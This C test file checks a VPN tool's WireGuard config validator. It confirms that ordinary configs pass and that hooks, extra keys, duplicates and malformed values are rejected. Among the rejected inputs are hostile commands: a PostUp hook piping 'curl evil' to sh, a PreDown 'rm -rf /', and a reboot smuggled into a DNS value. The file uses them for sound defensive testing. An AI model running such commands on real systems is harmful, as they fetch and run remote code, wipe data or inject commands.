/* SPDX-License-Identifier: MIT */
/* The check of an exported config: the wg-quick basics pass, anything else is refused. */
#include <stdlib.h>
#include <string.h>

#include "test.h"
#include "vpnctl.h"

#define IFACE                                                                                      \
	"[Interface]\nPrivateKey = eLY6k1TaEaipiHXeqEy41wcS3pouw9gpsNwRuKwfRUM=\n"                 \
	"Address = 10.7.0.2/24, fddd:2c4:2c4:2c4::2/64\n"
#define PEER                                                                                       \
	"[Peer]\nPublicKey = 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"                       \
	"PresharedKey = kT9nTqU0hZ0XhV9OXZ1Ggxp6o0kx9WmXHW7ggjdkdS8=\n"                            \
	"AllowedIPs = 0.0.0.0/0, ::/0\nEndpoint = 203.0.113.12:51820\nPersistentKeepalive = 25\n"

static void test_the_controllers_layout_passes(void)
{
	char err[256];

	TEST_START("the controller's config, with or without DNS and keepalive, passes");
	ASSERT_INT_EQ(
	        cli_config_check(IFACE "DNS = 1.1.1.1, 2606:4700::1111\n\n" PEER, err, sizeof(err)),
	        0);
	ASSERT_INT_EQ(
	        cli_config_check(IFACE "DNS = 10.7.0.1, corp.example\n" PEER, err, sizeof(err)), 0);
	ASSERT_INT_EQ(cli_config_check(IFACE "\n[Peer]\nPublicKey = "
	                                     "6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"
	                                     "AllowedIPs = 10.7.0.0/24\nEndpoint = "
	                                     "[2001:db8::1]:51820\n",
	                               err, sizeof(err)),
	              0);
	TEST_DONE();
}

static void expect_refused(const char *config, const char *why)
{
	char err[256] = "";

	ASSERT_INT_EQ(cli_config_check(config, err, sizeof(err)), PV_EINVAL);
	ASSERT_STR_CONTAINS(err, why);
	/* A rejected value may be a key: never echoed. */
	ASSERT_TRUE(strstr(err, "eLY6k1Ta") == NULL && strstr(err, "kT9nTq") == NULL);
}

static void test_anything_else_is_refused(void)
{
	TEST_START("hooks, other keys, a second peer, bad values and missing keys are refused");
	expect_refused(IFACE "PostUp = curl evil | sh\n" PEER, "PostUp");
	expect_refused(IFACE "Table = off\n" PEER, "Table");
	expect_refused(IFACE PEER "PreDown = rm -rf /\n", "PreDown");
	expect_refused(IFACE PEER "Foo=bar\n", "Foo");
	expect_refused(IFACE PEER PEER, "PublicKey: given twice");
	expect_refused(IFACE PEER "[Peer]\n", "2 [Peer]");
	expect_refused(PEER, "0 [Interface]");
	expect_refused("# comment\n" IFACE PEER, "before [Interface]");
	expect_refused(IFACE "PrivateKey = kT9nTqU0hZ0XhV9OXZ1Ggxp6o0kx9WmXHW7ggjdkdS8=\n" PEER,
	               "PrivateKey: given twice");
	expect_refused("[Interface]\nPrivateKey = eLY6k1TaEaipiHXeqEy41wcS3pouw9gpsNwRuKwfRUM\n"
	               "Address = 10.7.0.2/24\n" PEER,
	               "PrivateKey: malformed");
	expect_refused("[Interface]\nAddress = 10.7.0.2/24\n" PEER, "no PrivateKey");
	expect_refused(IFACE "DNS = 1.1.1.1;reboot\n" PEER, "DNS: malformed");
	expect_refused("[Interface]\nPrivateKey = eLY6k1TaEaipiHXeqEy41wcS3pouw9gpsNwRuKwfRUM=\n"
	               "Address = 10.7.0.2/33\n" PEER,
	               "Address: malformed");
	expect_refused(IFACE "[Peer]\nPublicKey = 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"
	                     "AllowedIPs = 0.0.0.0/0\nEndpoint = 203.0.113.12:0\n",
	               "Endpoint: malformed");
	expect_refused(IFACE "[Peer]\nPublicKey = 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"
	                     "AllowedIPs = 0.0.0.0/0,\nEndpoint = 203.0.113.12:51820\n",
	               "AllowedIPs: malformed");
	expect_refused(IFACE "[Peer]\nPublicKey = 6SE8YL7RVDB63Ayzj48gLOnbVRSVDzUbaAPmgliijF8=\n"
	                     "AllowedIPs = 0.0.0.0/0\n",
	               "no Endpoint");
	expect_refused(IFACE "\r\n" PEER, "control");
	TEST_DONE();
}

int main(void)
{
	test_the_controllers_layout_passes();
	test_anything_else_is_refused();
	TEST_SUMMARY();
}
